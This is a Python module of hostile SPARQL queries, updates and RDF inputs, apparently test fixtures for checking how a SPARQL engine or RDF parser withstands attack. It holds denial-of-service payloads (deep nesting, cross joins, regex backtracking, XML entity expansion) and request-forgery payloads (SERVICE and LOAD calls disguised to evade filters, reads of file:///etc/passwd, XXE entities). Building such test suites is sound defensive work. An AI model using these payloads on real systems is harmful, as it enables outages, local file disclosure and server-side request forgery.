"""Requests that mean harm: every construct that nests, nested 100,000 deep, and queries without
end."""

from __future__ import annotations

DEEP = 100_000
IRI = "<urn:x>"


def deep(opening: str, inside: str, closing: str, depth: int = DEEP) -> str:
    return opening * depth + inside + closing * depth


PATTERNS = {
    "braces": deep("{", "?s ?p ?o", "}"),
    "parentheses": f"FILTER({deep('(', '1', ')')})",
    "filter exists": deep("FILTER EXISTS {", "?s ?p ?o", "}"),
    "filter not exists": deep("FILTER NOT EXISTS {", "?s ?p ?o", "}"),
    "union nested": deep("{?s ?p ?o} UNION {", "?s ?p ?o", "}"),
    "union chain": "{?s ?p ?o}" + " UNION {?s ?p ?o}" * DEEP,
    "optional nested": deep("OPTIONAL {", "?s ?p ?o", "}"),
    "optional chain": "?s ?p ?o" + " OPTIONAL {?s ?p ?o}" * DEEP,
    "minus": deep("MINUS {", "?s ?p ?o", "}"),
    "graph": deep("GRAPH ?g {", "?s ?p ?o", "}"),
    "subselect": deep("{SELECT * {", "?s ?p ?o", "}}"),
    "path parentheses": f"?s {deep('(', IRI, ')')} ?o",
    "path sequence": f"?s {IRI}{('/' + IRI) * DEEP} ?o",
    "path alternatives": f"?s {IRI}{('|' + IRI) * DEEP} ?o",
    "path inverse": f"?s {'^' * DEEP}{IRI} ?o",
    "path stars": f"?s {deep('(', IRI, ')*')} ?o",
    "path negated": f"?s {deep('!(', IRI, ')')} ?o",
    "list nested": f"?s ?p {deep('(', '1', ')')}",
    "list long": f"?s ?p ({'1 ' * DEEP})",
    "blank nodes": f"?s ?p {deep(f'[{IRI} ', '1', ']')}",
    "values rows": f"VALUES ?x {{ {'1 ' * DEEP} }}",
    "values columns": f"VALUES ({'?x ' * 1000}) {{ ({'1 ' * 1000}) }}",
    "triple terms": f"?s ?p {deep(f'<<( {IRI} {IRI} ', '1', ')>>')}",
    "reified triples": f"{deep('<< ', IRI, f' {IRI} {IRI} >>')} ?p ?o",
    "annotations": f"?s ?p ?o {deep('{| ?p ?o ', '', '|}')}",
    "not": f"FILTER({'!' * DEEP}true)",
    "minus signs": f"FILTER({'-' * DEEP}1)",
    "sum": f"FILTER(1{'+1' * DEEP})",
    "conjunction": f"FILTER(true{'&&true' * DEEP})",
    "disjunction": f"FILTER(false{'||false' * DEEP})",
    "calls": f"FILTER({deep('STR(', '1', ')')})",
    "if": f"FILTER({deep('IF(true,', '1', ',1)')})",
    "coalesce": f"FILTER({deep('COALESCE(', '1', ')')})",
    "in": f"FILTER({deep('1 IN (', '1', ')')})",
    "bind chain": "".join(f"BIND({n} AS ?v{n}) " for n in range(DEEP)),
    "filters": "FILTER(true) " * DEEP,
}
QUERIES = {
    **{name: f"SELECT * {{ {each} }}" for name, each in PATTERNS.items()},
    "projection": f"SELECT ({deep('(', '1', ')')} AS ?x) {{}}",
    "order": f"SELECT * {{}} ORDER BY {deep('(', '1', ')')}",
    "group": f"SELECT (1 AS ?x) {{}} GROUP BY {deep('(', '1', ')')}",
    "having": f"SELECT (1 AS ?x) {{}} HAVING {deep('(', '1', ')')}",
    "aggregates": f"SELECT ({deep('SUM(', '1', ')')} AS ?x) {{}}",
    "template lists": f"CONSTRUCT {{ ?s ?p {deep('(', '1', ')')} }} {{}}",
    "template blank nodes": f"CONSTRUCT {{ ?s ?p {deep(f'[{IRI} ', '1', ']')} }} {{}}",
    "services": f"SELECT * {{ {deep('SERVICE SILENT <urn:x> {', '', '}')} }}",
    "variables": f"SELECT {' '.join(f'?v{n}' for n in range(DEEP))} {{}}",
    "objects": f"SELECT * {{ ?s ?p {','.join(f'?o{n}' for n in range(DEEP // 2))} }}",
    "a million values": f"SELECT (COUNT(*) AS ?n) {{ VALUES ?x {{ {'1 ' * 1_000_000} }} }}",
    "pattern groups": f"SELECT * {{ FILTER REGEX('a', '{deep('(', 'a', ')')}') }}",
    "pattern repeats": f"SELECT * {{ FILTER REGEX('{'a' * 5000}!', '^((a+)+)+$') }}",
    "pattern sizes": "SELECT * { FILTER REGEX('a', '(((a{1,1000}){1,1000}){1,1000})') }",
    "geometries": 'SELECT (<http://www.opengis.net/def/function/geosparql/sfWithin>("'
    + deep("GEOMETRYCOLLECTION(", "", ")")
    + '"^^<http://www.opengis.net/ont/geosparql#wktLiteral>, "") AS ?x) {}',
    "prefixes": "".join(f"PREFIX p{n}: {IRI} " for n in range(DEEP)) + "ASK {}",
    "from": f"SELECT * {''.join(f'FROM <urn:{n}> ' for n in range(DEEP))} {{ ?s ?p ?o }}",
    "nested and a service": f"SELECT * {{ {deep('{', 'SERVICE ?x {}', '}')} }}",
    "parentheses and a service": f"SELECT * {{ FILTER({deep('(', '1', ')')}) SERVICE ?x {{}} }}",
    "unfinished braces": "SELECT * " + "{" * DEEP,
    "unfinished strings": "SELECT * { ?s ?p " + "'\\" * DEEP,
    "quotation marks": "SELECT * { ?s ?p " + '"""' * DEEP,
    "backslashes": "SELECT * { ?s ?p '" + "\\" * DEEP,
}
UPDATES = {
    **{
        f"where {name}": f"INSERT {{ GRAPH <urn:g> {{ ?s ?p ?o }} }} WHERE {{ {PATTERNS[name]} }}"
        for name in ("braces", "parentheses", "optional nested", "union nested", "path stars")
    },
    "list": f"INSERT DATA {{ GRAPH <urn:g> {{ {IRI} {IRI} {deep('(', '1', ')')} }} }}",
    "blank nodes": "INSERT DATA { GRAPH <urn:g> { "
    f"{IRI} {IRI} {deep(f'[{IRI} ', '1', ']')} }} }}",
    "triple terms": "INSERT DATA { GRAPH <urn:g> { "
    f"{IRI} {IRI} {deep(f'<<( {IRI} {IRI} ', '1', ')>>')} }} }}",
    "operations": "INSERT DATA {} ; " * DEEP,
    "template lists": f"INSERT {{ ?s ?p {deep('(', '1', ')')} }} WHERE {{ ?s ?p ?o }}",
    "merged": f"INSERT {{ ?s ?p ?o }} USING <urn:a> USING <urn:b> WHERE {{ {PATTERNS['braces']} }}",
    "using": f"INSERT {{ <urn:a> <urn:b> 1 }} {''.join(f'USING <urn:{n}> ' for n in range(9000))}"
    " WHERE { ?s ?p ?o }",
    "unfinished": "USING " * DEEP + "INSERT DATA {" * DEEP,
    "nested and load": f"INSERT {{}} WHERE {{ {deep('{', '', '}')} }} ; LOAD <urn:x>",
}
_XMLNS = 'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:x="urn:x:"'
_RESOURCE = '<x:b rdf:parseType="Resource">'


def _entity(number: int) -> str:
    """Ten times the one before."""
    return f'<!ENTITY a{number} "' + f"&a{number - 1};" * 10 + '">'


GRAPHS = {
    "turtle list": ("text/turtle", f"{IRI} {IRI} {deep('(', '1', ')')} ."),
    "turtle blank nodes": ("text/turtle", f"{IRI} {IRI} {deep(f'[{IRI} ', '1', ']')} ."),
    "turtle triple terms": (
        "text/turtle",
        f"{IRI} {IRI} {deep(f'<<( {IRI} {IRI} ', '1', ')>>')} .",
    ),
    "turtle annotations": ("text/turtle", f"{IRI} {IRI} 1 {deep(f'{{| {IRI} 1 ', '', '|}')} ."),
    "turtle prefixes": ("text/turtle", "".join(f"@prefix p{n}: {IRI} .\n" for n in range(DEEP))),
    "ntriples terms": (
        "application/n-triples",
        f"{IRI} {IRI} {deep(f'<<( {IRI} {IRI} ', IRI, ' )>>')} .",
    ),
    "jsonld objects": ("application/ld+json", deep('{"urn:x":', "1", "}")),
    "jsonld lists": ("application/ld+json", '{"urn:x":' + deep('{"@list":[', "1", "]}") + "}"),
    "jsonld arrays": ("application/ld+json", deep("[", "", "]")),
    "jsonld graphs": ("application/ld+json", deep('{"@graph":', "[]", "}")),
    "jsonld contexts": ("application/ld+json", '{"@context":' + deep("[", "{}", "]") + "}"),
    "rdfxml elements": (
        "application/rdf+xml",
        f"<rdf:RDF {_XMLNS}>{deep('<x:a><x:b>', '', '</x:b></x:a>')}</rdf:RDF>",
    ),
    "rdfxml literal": (
        "application/rdf+xml",
        (
            f'<rdf:RDF {_XMLNS}><x:a><x:b rdf:parseType="Literal">'
            f"{deep('<b>', '', '</b>')}</x:b></x:a></rdf:RDF>"
        ),
    ),
    "rdfxml resources": (
        "application/rdf+xml",
        f"<rdf:RDF {_XMLNS}><x:a>{deep(_RESOURCE, '', '</x:b>')}</x:a></rdf:RDF>",
    ),
    "rdfxml entities": (
        "application/rdf+xml",
        '<!DOCTYPE x [<!ENTITY a0 "aaaaaaaaaa">'
        + "".join(_entity(n) for n in range(1, 12))
        + f"]><rdf:RDF {_XMLNS}><x:a><x:b>&a11;</x:b></x:a></rdf:RDF>",
    ),
}
_DOUBLED = " ".join(f"BIND(CONCAT(?v{n}, ?v{n}) AS ?v{n + 1})" for n in range(40))
HEAVY = {
    "cross join": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l }",
    "cross join without rows": "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l"
    " FILTER(?c > ?f && ?f > ?i && ?i > ?l && ?l > ?c) }",
    "giant order": "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c DESC(?f) ?i",
    "giant distinct": "SELECT DISTINCT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "group concat": "SELECT (GROUP_CONCAT(CONCAT(STR(?a), STR(?d))) AS ?x)"
    " { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "doubled strings": f'SELECT * {{ BIND("0123456789" AS ?v0) {_DOUBLED} }}',
    "groups": "SELECT ?a ?d ?g (SAMPLE(?c) AS ?x) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }"
    " GROUP BY ?a ?d ?g",
    "path stars": "SELECT (COUNT(*) AS ?n) { ?a (<urn:next>|^<urn:next>)* ?b ."
    " ?b (<urn:next>|^<urn:next>)* ?c . ?c (<urn:next>|^<urn:next>)* ?d }",
    "path of paths": "SELECT * { ?a ((<urn:next>*)/(<urn:next>*))+ ?b ."
    " FILTER(STR(?a) > STR(?b) && STR(?b) > STR(?a)) }",
    "construct": "CONSTRUCT { ?a ?e ?i } { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i } ORDER BY ?c ?f ?i",
    "exists": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f"
    " FILTER NOT EXISTS { ?g ?h ?i FILTER(?i = ?c + ?f) } }",
    "values": f"SELECT (COUNT(*) AS ?n) {{ VALUES ?x {{ {'1 ' * 9000} }} VALUES ?y {{"
    f" {'1 ' * 9000} }} VALUES ?z {{ {'1 ' * 9000} }} }}",
    "patterns": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
    " FILTER REGEX(CONCAT(STR(?a), STR(?d)), CONCAT('.*', STR(?g), '.*(a|b)*')) }",
    "replacements": f"SELECT (STRLEN(?d) AS ?n) {{ BIND(REPLACE('{'a' * 5000}', 'a',"
    f" '{'b' * 5000}') AS ?a) BIND(REPLACE(?a, 'b', '{'c' * 100}') AS ?d) }}",
    "optionals": "SELECT (COUNT(*) AS ?n) { ?a ?b ?c OPTIONAL { ?d ?e ?f OPTIONAL {"
    " ?g ?h ?i OPTIONAL { ?j ?k ?l } } } }",
    "descriptions": "DESCRIBE * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "new nodes": "CONSTRUCT { [] ?b ?c . [] ?e ?f . ?a ?h _:x } { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }",
    "subqueries": "SELECT (SUM(?n) AS ?m) { { SELECT (COUNT(*) AS ?n) { ?a ?b ?c . ?d ?e ?f ."
    " ?g ?h ?i } GROUP BY ?a } }",
}
_CROSS = "?a ?b ?c . ?d ?e ?f . ?g ?h ?i"
HEAVY_UPDATES = {
    "insert": f"INSERT {{ GRAPH <urn:o> {{ ?a ?e ?i }} }} WHERE {{ {_CROSS} }}",
    "new nodes": f"INSERT {{ GRAPH <urn:o> {{ [] ?e ?i }} }} WHERE {{ {_CROSS} }}",
    "new graphs": f"INSERT {{ GRAPH ?a {{ ?d ?e ?i }} }} WHERE {{ {_CROSS} }}",
    "delete": f"DELETE {{ GRAPH <urn:o> {{ ?a ?e ?i }} }} WHERE {{ {_CROSS} }}",
    "count": "INSERT { <urn:o> <urn:o> ?n } WHERE { SELECT (COUNT(*) AS ?n)"
    f" {{ {_CROSS} . ?j ?k ?l }} }}",
    "doubling": " ; ".join(
        ["INSERT { ?s ?p ?x } WHERE { ?s ?p ?o BIND(CONCAT(STR(?o), STR(?o)) AS ?x) }"] * 60
    ),
    "copies": " ; ".join(f"COPY DEFAULT TO <urn:c{n}>" for n in range(5000)),
}


def disguises(address: str) -> dict[str, str]:
    """Queries that would reach an address."""
    call = f"SERVICE <{address}> {{ ?a ?b ?c }}"
    return {
        "plain": f"SELECT * {{ {call} }}",
        "silent": f"SELECT * {{ SERVICE SILENT <{address}> {{ ?a ?b ?c }} }}",
        "lower": f"SELECT * {{ service <{address}> {{ ?a ?b ?c }} }}",
        "mixed": f"SELECT * {{ sErViCe <{address}> {{ ?a ?b ?c }} }}",
        "variable": f"SELECT * {{ BIND(<{address}> AS ?x) SERVICE ?x {{ ?a ?b ?c }} }}",
        "values": f"SELECT * {{ VALUES ?x {{ <{address}> }} SERVICE SILENT ?x {{ ?a ?b ?c }} }}",
        "prefixed": f"PREFIX x: <{address}> SELECT * {{ SERVICE x: {{ ?a ?b ?c }} }}",
        "relative": f"BASE <{address}> SELECT * {{ SERVICE <> {{ ?a ?b ?c }} }}",
        "escaped word": f"SELECT * {{ \\u0053ERVICE <{address}> {{ ?a ?b ?c }} }}",
        "escaped quote": f"SELECT * {{ ?s ?p 'a\\u0027 # ' . {call} \n }}",
        "comment by return": f"SELECT * {{ # hidden\r {call} }}",
        "comment between": f"SELECT * {{ SERVICE # x\n <{address}> {{ ?a ?b ?c }} }}",
        "no space": f"SELECT*{{SERVICE<{address}>{{?a ?b ?c}}}}",
        "in exists": f"ASK {{ FILTER EXISTS {{ {call} }} }}",
        "in subselect": f"SELECT * {{ {{ SELECT * {{ OPTIONAL {{ {call} }} }} }} }}",
        "in having": f"SELECT ?s {{ ?s ?p ?o }} GROUP BY ?s HAVING(EXISTS {{ {call} }})",
        "in bind": f"SELECT * {{ BIND(EXISTS {{ {call} }} AS ?x) }}",
        "in order": f"SELECT * {{ ?s ?p ?o }} ORDER BY (EXISTS {{ {call} }})",
        "in construct": f"CONSTRUCT {{ ?a ?b ?c }} {{ {call} }}",
        "in describe": f"DESCRIBE ?a {{ {call} }}",
        "from": f"SELECT * FROM <{address}> {{ ?s ?p ?o }}",
        "from named": f"SELECT * FROM NAMED <{address}> {{ GRAPH ?g {{ ?s ?p ?o }} }}",
        "from file": "SELECT * FROM <file:///etc/passwd> { ?s ?p ?o }",
    }


def loads(address: str) -> dict[str, str]:
    """Updates that would."""
    return {
        "load": f"LOAD <{address}>",
        "load silent": f"LOAD SILENT <{address}> INTO GRAPH <urn:g>",
        "load file": "LOAD <file:///etc/passwd> INTO GRAPH <urn:g>",
        "load second": f"INSERT DATA {{ <urn:a> <urn:b> 1 }} ; load <{address}>",
        "load escaped": f"\\u004COAD <{address}>",
        "service": f"INSERT {{ ?a ?b ?c }} WHERE {{ SERVICE <{address}> {{ ?a ?b ?c }} }}",
        "service silent": "DELETE { ?a ?b ?c } WHERE {"
        f" SERVICE SILENT <{address}> {{ ?a ?b ?c }} }}",
        "using": f"INSERT {{ ?a ?b 1 }} USING <{address}> WHERE {{ ?a ?b ?c }}",
    }


def remote_graphs(address: str) -> dict[str, tuple[str, str]]:
    """Graphs whose reader could be led elsewhere."""
    return {
        "jsonld context": (
            "application/ld+json",
            f'{{"@context": "{address}", "@id": "urn:a", "urn:b": 1}}',
        ),
        "jsonld import": (
            "application/ld+json",
            f'{{"@context": {{"@version": 1.1, "@import": "{address}"}}, "urn:b": 1}}',
        ),
        "rdfxml entity": (
            "application/rdf+xml",
            (
                f'<!DOCTYPE x [<!ENTITY e SYSTEM "{address}">]>'
                f"<rdf:RDF {_XMLNS}><x:a><x:b>&e;</x:b></x:a></rdf:RDF>"
            ),
        ),
        "rdfxml dtd": (
            "application/rdf+xml",
            f'<!DOCTYPE rdf:RDF SYSTEM "{address}"><rdf:RDF {_XMLNS}/>',
        ),
        "turtle import": (
            "text/turtle",
            f"<urn:a> <http://www.w3.org/2002/07/owl#imports> <{address}> .",
        ),
    }
